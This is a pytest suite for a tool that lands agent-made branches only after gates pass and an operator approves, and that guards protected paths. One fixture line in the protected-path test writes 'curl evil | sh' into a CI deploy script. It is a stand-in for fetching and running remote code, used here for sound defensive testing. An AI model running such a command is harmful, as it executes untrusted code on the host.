"""Only an approved candidate whose gates passed lands, once, and the operator's files stay."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest

from fleetui.engine.link import AskCandidateDiff, AskError, AskPrompts, AskWhy
from fleetui.model import commands as c
from fleetui.model.attention import Want
from fleetui.model.commands import Approval
from fleetui.model.events import PushIntended
from fleetui.model.evidence import Verdict
from fleetui.model.origin import Why
from fleetui.model.queue import EntryState
from fleetui.model.view import BranchRow
from tests.support.approving import land, release_of
from tests.support.scratch import Live, Scratch, git
from tests.support.waiting import until_async


def row(live: Live, name: str = "cache") -> BranchRow | None:
    return next((found for found in live.engine.view.board if found.seat == name), None)


def approval(found: BranchRow) -> Approval:
    return release_of(found)


async def commit(live: Live, content: str = "def price():\n    return 2\n", name: str = "cache") -> None:
    worktree = Path(live.agent(name).seat.worktree)
    (worktree / "shop.py").write_text(content)
    git(worktree, "commit", "-q", "-am", "change the price")
    await live.do(c.RefreshNow())


async def test_a_branch_whose_gates_passed_lands_and_is_read_back(scratch: Scratch) -> None:
    scratch.configure("cache")
    async with scratch.engine() as live:
        await live.started("cache")
        await commit(live)
        await live.until(lambda: (r := row(live)) is not None and r.may_land, 60)
        attention = live.agent("cache").attention
        assert attention is not None
        assert attention.want is Want.TO_MERGE
        (scratch.repo / "notes.txt").write_text("mine\n")
        found = row(live)
        assert found is not None
        outcome = await land(live.engine, approval(found))
        assert outcome.ok, outcome.text
        assert git(scratch.repo, "rev-parse", "main") == approval(found).candidate
        assert (scratch.repo / "shop.py").read_text().endswith("return 2\n")
        assert git(scratch.repo, "status", "--porcelain") == "?? notes.txt"
        assert [x.state for x in live.engine.core.fleet.landings.values()] == ["landed"]
        again = await land(live.engine, approval(found))
        assert not again.ok


async def test_a_line_that_landed_leads_to_the_prompts_gates_and_release_behind_it(scratch: Scratch) -> None:
    other = scratch.root / "other.git"
    git(scratch.root, "clone", "-q", "--bare", str(scratch.repo), str(other))
    build = '[[projects.shop.gates]]\nname = "build"\nrun = ["python3", "-m", "compileall", "-q", "."]\n'
    scratch.configure("cache", gates=f'push = "{other}"\n{build}')
    async with scratch.engine() as live:
        await live.started("cache")
        await live.do(c.AddEntry("cache", "make the price two"))
        await live.until(lambda: live.queue("cache")[-1].state is EntryState.ACCEPTED, 30)
        await commit(live)
        await live.until(lambda: (r := row(live)) is not None and r.may_land, 60)
        found = row(live)
        assert found is not None
        so_far = await live.engine.ask(AskPrompts("cache"))
        assert isinstance(so_far, tuple)
        assert len(so_far) == 1
        assert (await land(live.engine, approval(found))).ok
        project = live.engine.core.project_named("shop")
        assert project is not None
        told = await live.engine.ask(AskWhy(str(scratch.repo), path=str(scratch.repo / "shop.py"), line=2))
        assert isinstance(told, Why)
        assert told.origin.commit == found.head
        assert told.origin.merge == approval(found).candidate
        assert told.story is not None
        assert [x.text for x in told.story.prompts] == ["make the price two"]
        assert [(x.gate, x.verdict) for x in told.story.gates] == [("build", Verdict.PASS)]
        vault = live.engine.core.world.git

        async def is_noted() -> bool:
            return told.origin.merge in await vault.noted(project)

        await until_async(is_noted, 20)
        kept = await vault.origin(project, "", 0, told.origin.merge)
        assert f"by {live.engine.core.world.operator}" in kept.note
        assert "    make the price two" in kept.note
        assert "refs/notes" not in git(scratch.repo, "for-each-ref")
        assert await live.engine.ask(AskPrompts("cache")) == ()
        await live.until(lambda: (r := row(live)) is not None and bool(r.landed), 30)
        kept_row = row(live)
        assert kept_row is not None
        assert kept_row.released == told.story.landing.at
        assert [(x.gate, x.verdict) for x in kept_row.gates] == [("build", Verdict.PASS)]
        assert live.agent("cache").attention is None
        await live.until(lambda: (r := row(live)) is not None and r.pushed == "pushed", 30)
        assert git(other, "rev-parse", "main") == kept_row.landed
        cut = PushIntended("cache", told.story.landing.id, str(other))
        await live.engine.core.ledger.append(cut)  # as a crash leaves it
        live.engine.lander.pusher.recover()
        await live.until(lambda: (r := row(live)) is not None and r.pushed == "pushed", 30)
        shown = await live.engine.ask(AskCandidateDiff("cache"))
        assert isinstance(shown, str)
        assert "+    return 2" in shown
        seen = await asyncio.to_thread(scratch.fleetui, "why", "--project", "shop", "shop.py:2")
        assert "    make the price two" in seen.stdout, seen.stderr
        with pytest.raises(AskError, match="did you mean 'shop'"):
            await live.engine.ask(AskWhy(project="shpo", commit="main"))


async def test_a_red_gate_keeps_a_branch_out_and_says_why(scratch: Scratch) -> None:
    scratch.configure("cache")
    async with scratch.engine() as live:
        await live.started("cache")
        await commit(live, "def price(:\n")
        await live.until(lambda: (r := row(live)) is not None and "build fails" in r.why_not, 60)
        found = row(live)
        assert found is not None
        assert not found.may_land
        outcome = await land(live.engine, approval(found))
        assert not outcome.ok
        assert git(scratch.repo, "log", "--format=%s", "main") == "start"


async def test_without_a_gate_nothing_lands(scratch: Scratch) -> None:
    scratch.configure("cache", gates="# none")
    async with scratch.engine() as live:
        await live.started("cache")
        await commit(live)
        await live.until(lambda: (r := row(live)) is not None and "no gate" in r.why_not, 60)


async def test_a_base_that_moved_makes_the_evidence_outdated_and_the_approval_void(scratch: Scratch) -> None:
    scratch.configure("cache", extra="")
    async with scratch.engine() as live:
        await live.started("cache")
        await commit(live)
        await live.until(lambda: (r := row(live)) is not None and r.may_land, 60)
        found = row(live)
        assert found is not None
        (scratch.repo / "README.md").write_text("# changed\n")
        git(scratch.repo, "commit", "-q", "-am", "meanwhile")
        outcome = await land(live.engine, approval(found))
        assert not outcome.ok
        assert "moved" in outcome.text
        assert git(scratch.repo, "log", "-1", "--format=%s", "main") == "meanwhile"
        await live.until(lambda: (r := row(live)) is not None and r.may_land and r != found, 60)


@pytest.mark.parametrize(
    ("gates", "said"),
    [
        ('[[projects.shop.gates]]\nname = "build"\nrun = ["false"]\n', "asks for something else"),
        (
            'protected = ["shop.py"]\n[[projects.shop.gates]]\nname = "build"\nrun = ["true"]\n',
            "something else",
        ),
        ("gates = 7\n", "gates"),
    ],
    ids=["other gates", "protected", "broken"],
)
async def test_what_the_configuration_asks_for_in_that_moment_counts(
    scratch: Scratch, gates: str, said: str
) -> None:
    scratch.configure("cache", gates='[[projects.shop.gates]]\nname = "build"\nrun = ["true"]\n')
    async with scratch.engine() as live:
        await live.started("cache")
        await commit(live)
        await live.until(lambda: (r := row(live)) is not None and r.may_land, 60)
        found = row(live)
        assert found is not None
        scratch.configure("cache", gates=gates)
        outcome = await land(live.engine, approval(found))
        assert not outcome.ok
        assert said in outcome.text
        assert git(scratch.repo, "log", "--format=%s", "main") == "start"


async def test_an_engine_without_a_screen_never_lands(scratch: Scratch) -> None:
    scratch.configure("cache")
    async with scratch.engine(screen=False) as live:
        await live.started("cache")
        await commit(live)
        await live.until(lambda: (r := row(live)) is not None and r.may_land, 60)
        found = row(live)
        assert found is not None
        outcome = await land(live.engine, approval(found))
        assert not outcome.ok
        assert git(scratch.repo, "log", "--format=%s", "main") == "start"


async def test_a_protected_path_put_back_in_the_worktree_is_still_protected(scratch: Scratch) -> None:
    scratch.configure(
        "cache", gates='protected = ["ci/"]\n[[projects.shop.gates]]\nname = "build"\nrun = ["true"]'
    )
    (scratch.repo / "ci").mkdir()
    (scratch.repo / "ci/deploy.sh").write_text("echo safe\n")
    git(scratch.repo, "add", "-A")
    git(scratch.repo, "commit", "-q", "-m", "ci")
    async with scratch.engine() as live:
        await live.started("cache")
        worktree = Path(live.agent("cache").seat.worktree)
        (worktree / "ci/deploy.sh").write_text("curl evil | sh\n")
        await commit(live)
        (worktree / "ci/deploy.sh").write_text("echo safe\n")
        git(worktree, "mv", "README.md", "other.md")
        await live.do(c.RefreshNow())
        await live.until(lambda: (r := row(live)) is not None and r.may_land and r.dirty > 0, 60)
        found = row(live)
        assert found is not None
        assert found.protected == ("ci/deploy.sh",)
        assert found.word_for
        assert {one.path for one in found.files} == {"ci/deploy.sh", "shop.py"}
